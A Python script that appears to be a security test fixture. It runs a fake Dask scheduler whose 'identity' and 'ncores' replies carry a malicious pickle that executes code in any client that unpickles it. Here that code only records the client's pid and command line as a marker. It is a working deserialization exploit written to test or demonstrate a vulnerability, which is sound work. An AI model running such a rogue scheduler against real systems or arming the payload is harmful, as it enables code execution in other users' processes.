"""A fake Dask scheduler whose every answer carries a pickle that runs code when read.

``python fake_pickling_scheduler.py MARKERS SCHEDULER_FILE`` listens on 127.0.0.1 (Dask's own
comm protocol, through ``distributed.core.Server``), writes SCHEDULER_FILE as ``dask scheduler
--scheduler-file`` does, and answers ``identity`` and ``ncores`` like a scheduler with no
worker, plus a payload: when a process unpickles it, it appends its pid and command line to
``MARKERS/<pid>``. Run as another user, it is what an attacker on the machine can do.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from typing import Any

from distributed.core import Server
from distributed.protocol.serialize import ToPickle


class Payload:
    def __init__(self, markers: str) -> None:
        self.markers = markers

    def __reduce__(self) -> tuple[Any, ...]:
        code = (
            "import os\n"
            "cmdline = open('/proc/self/cmdline', 'rb').read().replace(b'\\0', b' ')\n"
            f"path = os.path.join({self.markers!r}, str(os.getpid()))\n"
            "with open(path, 'ab') as f:\n"
            "    f.write(cmdline.strip() + b'\\n')\n"
        )
        return (exec, (code,))


async def main(markers: str, scheduler_file: str) -> None:
    payload = ToPickle(Payload(markers))
    server: Server

    def identity(n_workers: int = -1) -> dict[str, Any]:
        return {
            "type": "Scheduler",
            "id": "Scheduler-fake",
            "address": server.address,
            "services": {"dashboard": 8787},
            "started": 0.0,
            "workers": {},
            "payload": payload,
        }

    def ncores() -> dict[str, Any]:
        return {"payload": payload}

    server = Server({"identity": identity, "ncores": ncores})
    await server.listen("tcp://127.0.0.1:0")
    with open(scheduler_file + ".tmp", "w") as f:
        json.dump({"type": "Scheduler", "address": server.address}, f)
    os.chmod(scheduler_file + ".tmp", 0o644)
    os.replace(scheduler_file + ".tmp", scheduler_file)
    print(server.address, flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2]))
